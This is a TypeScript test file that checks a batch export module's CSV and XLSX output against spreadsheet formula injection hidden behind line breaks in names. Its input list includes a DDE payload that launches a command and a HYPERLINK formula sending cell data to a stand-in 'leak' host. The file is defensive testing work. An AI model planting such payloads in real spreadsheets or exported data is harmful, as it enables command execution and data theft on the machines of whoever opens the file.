import { rmSync } from "node:fs";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, describe, expect, it } from "vitest";
import { safeCellText, writeBatchCsv, writeBatchXlsx } from "../../functions/core/exports/index.js";
import { krakowBatch } from "../fixtures/exports/batch.js";
import { bytesOf, libreOfficeCsvCells, workDir } from "../support/read-back.js";

// A line break inside a cell ends the record for many importers (LibreOffice's Polish CSV import
// among them when the quoting is lost or ignored): the text after it starts a line of its own,
// where the apostrophe put at the start of the cell no longer protects it.
const BROKEN_NAMES = [
  "Anna\n=10+20",
  "Anna\r=SUM(A1)",
  "Anna\r\n+1",
  "Anna\u2028=1+1",
  "Anna\u2029@SUM(A1)",
  "Anna\u0085-1+2",
  "\n=10+20",
  '\r=HYPERLINK("http://example.invalid/?leak="&A1;"x")',
  "Nowak\n\n\n=cmd|' /C calc'!A0",
];
const LINE_BREAK = /[\r\n\u0085\u2028\u2029]/u;
const FORMULA_LIKE = /^[\s\u00a0]*[=+\-@\t\r＝＋－＠]/u;

function poisoned(name: string) {
  const batch = krakowBatch({ assistants: 2, beneficiaries: 2 });
  batch.lines = batch.lines.map((line) => ({ ...line, assistantName: name, contractNumber: `AOU/1\n${name}`, bankAccount: `${name}\r` }));
  batch.cards = batch.cards.map((card) => ({ ...card, assistantName: name, approvedBy: `Ewa\r\n${name}` }));
  return batch;
}

const dir = workDir("line-breaks-");
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe("line breaks inside names", () => {
  it.each(BROKEN_NAMES.map((n) => [JSON.stringify(n), n]))("safeCellText(%s) holds no line break and no formula start", (_, name) => {
    const text = safeCellText(name);
    expect(text).not.toMatch(LINE_BREAK);
    expect(text).not.toMatch(FORMULA_LIKE);
  });

  it.each(BROKEN_NAMES.map((n) => [JSON.stringify(n), n]))("keep every CSV record on one line with no formula-like field for %s", async (_, name) => {
    const batch = poisoned(name);
    const csv = await bytesOf((out) => writeBatchCsv(batch.header, batch.lines, out));
    const text = csv.toString("utf8");
    // one physical line per record: heading, 4 data rows, totals
    expect(text.replace(/\r\n$/, "").split("\r\n")).toHaveLength(6);
    expect(text.replace(/\r\n/g, "")).not.toMatch(LINE_BREAK);
    const records: string[][] = parse(csv, { delimiter: ";", bom: true });
    expect(records).toHaveLength(6);
    for (const field of records.flat()) {
      expect(field).not.toMatch(LINE_BREAK);
      expect(field).not.toMatch(FORMULA_LIKE);
    }
  });

  it.each(BROKEN_NAMES.map((n) => [JSON.stringify(n), n]))("keep every XLSX text cell on one line with no formula start for %s", async (_, name) => {
    const batch = poisoned(name);
    const xlsx = await bytesOf((out) => writeBatchXlsx(batch.header, batch.lines, batch.cards, out));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
    let texts = 0;
    for (const sheet of workbook.worksheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.formula) return expect(cell.formula).toMatch(/^SUM\([A-Z]+\d+:[A-Z]+\d+\)$/);
          if (typeof cell.value !== "string") return;
          texts++;
          expect(cell.value).not.toMatch(LINE_BREAK);
          expect(cell.value).not.toMatch(FORMULA_LIKE);
        }),
      );
    }
    expect(texts).toBeGreaterThan(20);
  });

  it("leaves no formula in LibreOffice's Polish import of the CSV (semicolon, formulas evaluated)", async () => {
    for (const [i, name] of BROKEN_NAMES.entries()) {
      const batch = poisoned(name);
      const csv = await bytesOf((out) => writeBatchCsv(batch.header, batch.lines, out));
      const cells = await libreOfficeCsvCells(dir, `names-${i}`, csv);
      expect(cells.filter((c) => c.formula), JSON.stringify(name)).toEqual([]);
      // heading, 4 data rows and totals: no record was split
      expect(Math.max(...cells.map((c) => c.row)), JSON.stringify(name)).toBe(6);
      expect(cells.find((c) => c.row === 2 && c.col === 1)?.value, JSON.stringify(name)).toBe(safeCellText(name));
    }
  }, 180_000);
});
